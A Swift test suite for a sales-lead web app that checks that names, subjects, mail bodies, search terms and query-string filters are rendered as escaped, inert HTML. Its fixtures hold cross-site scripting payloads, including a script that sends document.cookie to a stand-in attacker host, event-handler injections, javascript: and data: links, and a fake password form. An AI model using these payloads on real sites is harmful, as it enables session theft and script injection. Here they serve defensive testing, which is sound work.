import Foundation
import HummingbirdTesting
import LeadDesk
import Leads
import TestSupport
import Testing

@testable import Web

/// Strangers write every name, subject and body these pages show. None of it may become markup: no script
/// runs, no attribute is closed, nothing remote loads, no link leads to `javascript:` or `data:`.
@Suite("Web: hostile mail shown as text")
struct HostileMailTests {
    static let name = #""><script>alert('name')</script><img src=x onerror=alert(1) x=""#
    static let subject =
        #"=?utf-8?b?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?= &lt;script&gt;alert(2)&lt;/script&gt; "#
        + #"'><svg onload=alert(3)>"#
    static let text = """
        Hello,<script>fetch('https://evil.example/steal?c='+document.cookie)</script>
        <a href="javascript:alert(4)">click</a>
        <a href='data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg=='>me</a>
        <img src="https://tracker.example/pixel.gif?lead=1" width=1 height=1>
        <div style="position:fixed;top:0;left:0;width:100%;height:100%" onclick="alert(6)">Pay here</div>
        <iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name=password></form>
        &#60;script&#62;alert(7)&#60;/script&#62; <style>body{display:none}</style> {{csrf}} {{#me}}x{{/me}}
        """

    @Test("the lead page, lists, My work and the board show hostile mail as inert text")
    func inert() async throws {
        let fixture = try await WebFixture()
        let id = try fixture.lead(
            "attacker@evil.example", owner: "anna@acme.example", name: Self.name, subject: Self.subject,
            text: Self.text)
        _ = try await fixture.desk.addTask(id, kind: .call, due: "2026-12-24", by: TestUsers.sales)
        try await fixture.test { client in
            var browser = try await Browser.signedIn(client, as: TestUsers.sales)
            for path in ["/leads/\(id)", "/leads/\(id)?order=newest", "/leads", "/leads?q=script", "/", "/pipeline"] {
                let response = try await browser.get(client, path)
                #expect(response.status == .ok, "\(path)")
                let html = String(buffer: response.body)
                Self.expectInert(html, path)
            }
            let page = String(buffer: try await browser.get(client, "/leads/\(id)").body)
            // Shown, as text: the words are there, escaped.
            #expect(page.contains("&lt;script&gt;fetch("))
            #expect(page.contains("&quot;&gt;&lt;script&gt;alert("))
            #expect(page.contains("{{csrf}}"), "a template tag in mail is text, not expanded")
            // The list's rows (written by ListRowsHTML, not by a Mustache section) escape the name the same way,
            // in the name's cell and the checkbox's label.
            let list = String(buffer: try await browser.get(client, "/leads?cols=name,email,company,tags").body)
            #expect(list.contains(#"<a href="/leads/\#(id)">&quot;&gt;&lt;script&gt;alert(&#39;name&#39;)"#))
            #expect(list.contains(#"<input type="checkbox" name="lead" value="\#(id)""#))
        }
    }

    /// The only markup on a page is our own: one script, from our origin; no tag a stranger wrote, no event
    /// handler, no remote or script URL in any tag's attributes.
    static func expectInert(_ html: String, _ path: String) {
        let lower = html.lowercased()
        #expect(lower.components(separatedBy: "<script").count == 2, "only our own script tag: \(path)")
        #expect(lower.contains(#"<script src="/static/app.js" defer></script>"#))
        let allowed: Set<String> = [
            "html", "head", "meta", "title", "link", "script", "body", "header", "span", "nav", "a", "div", "form",
            "input", "button", "main", "p", "h1", "h2", "h3", "section", "dl", "dt", "dd", "ul", "li", "ol",
            "small", "strong", "label", "textarea", "select", "option", "table", "thead", "tbody", "tr", "th", "td",
            "article", "details", "summary",
        ]
        for tag in tags(in: lower) {
            let name = String(tag.dropFirst().prefix { $0.isLetter || $0.isNumber })
            #expect(allowed.contains(name), "a <\(name)> tag in \(path): \(tag)")
            // Every attribute is a double-quoted one of ours or a known flag: a stranger's quote closed none.
            let pattern = #"\s([a-z-]+)="([^"]*)""#
            let bare = tag.replacingOccurrences(of: pattern, with: "", options: .regularExpression)
            #expect(
                bare.range(of: #"^<[a-z0-9]+(\s+(defer|selected|required|checked))*\s*>$"#, options: .regularExpression)
                    != nil,
                "an attribute that is not ours in \(path): \(tag)")
            let regex = try! NSRegularExpression(pattern: pattern)
            let text = String(tag)
            for match in regex.matches(in: text, range: NSRange(text.startIndex..., in: text)) {
                let attribute = String(text[Range(match.range(at: 1), in: text)!])
                let value = String(text[Range(match.range(at: 2), in: text)!])
                #expect(!attribute.hasPrefix("on") && attribute != "style", "\(attribute) in \(path): \(tag)")
                if ["href", "src", "action"].contains(attribute) {
                    #expect(value.hasPrefix("/") && !value.hasPrefix("//"), "a URL off the site in \(path): \(tag)")
                }
            }
        }
    }

    /// Every start tag of the page as written (`<name ...>`).
    static func tags(in html: String) -> [Substring] {
        var tags: [Substring] = []
        var rest = html[...]
        while let open = rest.firstIndex(of: "<") {
            let after = rest[rest.index(after: open)...]
            guard let first = after.first, first.isLetter, let close = after.firstIndex(of: ">") else {
                rest = after
                continue
            }
            tags.append(rest[open...close])
            rest = rest[rest.index(after: close)...]
        }
        return tags
    }

    @Test("search words with FTS syntax or quotes are only text to look for")
    func hostileSearch() async throws {
        let fixture = try await WebFixture()
        try fixture.lead("buyer@brewery.example", owner: "anna@acme.example", name: "Brewery Buyer")
        try await fixture.test { client in
            var browser = try await Browser.signedIn(client, as: TestUsers.sales)
            for query in ["\"", "NEAR(", "brew*", "a:b", "\"><script>", "''''", "AND OR NOT"] {
                let encoded = query.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""
                let response = try await browser.get(client, "/leads?q=\(encoded)")
                #expect(response.status == .ok, "\(query)")
                Self.expectInert(String(buffer: response.body), query)
            }
            let found = String(buffer: try await browser.get(client, "/leads?q=brew").body)
            #expect(found.contains("Brewery Buyer"))
        }
    }

    @Test("the list's filter fields, paging links and saved query are text whatever the query string holds")
    func hostileListFilters() async throws {
        let fixture = try await WebFixture()
        for n in 1...60 {
            try fixture.lead("buyer\(n)@brewery.example", owner: "anna@acme.example", name: "Buyer \(n)")
        }
        try await fixture.test { client in
            var browser = try await Browser.signedIn(client, as: TestUsers.sales)
            let hostile = #""><script>alert('x')</script><img src=x onerror=alert(1)>"#
            let encoded = hostile.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""
            // Each filter the page writes back into its form, the view, and the page links that carry them.
            for name in ["view", "source", "campaign", "owner", "tag", "team", "from", "until", "status", "rating"] {
                let path = "/leads?\(name)=\(encoded)&page=2"
                let response = try await browser.get(client, path)
                #expect(response.status == .ok, "\(path)")
                let html = String(buffer: response.body)
                Self.expectInert(html, path)
                if !["status", "rating"].contains(name) {
                    #expect(html.contains(#"&quot;&gt;&lt;script&gt;alert(&#39;x&#39;)"#), "\(name) shown as text")
                }
            }
            // A query string that finds leads (two pages of them): rows, mass actions and paging are written.
            let list = String(buffer: try await browser.get(client, "/leads?view=mine&sort=newest&page=1").body)
            Self.expectInert(list, "/leads?view=mine")
            #expect(list.contains(#"<a href="/leads?view=mine&amp;sort=newest&amp;page=2" rel="next">Next</a>"#))
            #expect(list.contains(#"<option value="newest" selected>newest</option>"#))
            #expect(list.contains(#"<input type="hidden" name="back" value="/leads?view=mine&amp;sort=newest">"#))
            #expect(list.contains(#"<a href="/leads?view=mine" aria-current="page">My leads</a>"#))
        }
    }

    @Test("pre-escaped text escapes byte by byte: a quote with a combining mark, and every character HTML reads")
    func escapedHTML() {
        #expect(EscapedHTML("\"\u{301}x").renderText == "&quot;\u{301}x")
        #expect(EscapedHTML(#"<a href='x'>&amp;</a>"#).renderText == "&lt;a href=&#39;x&#39;&gt;&amp;amp;&lt;/a&gt;")
        #expect(EscapedHTML("plain text, é").renderText == "plain text, é")
    }
}
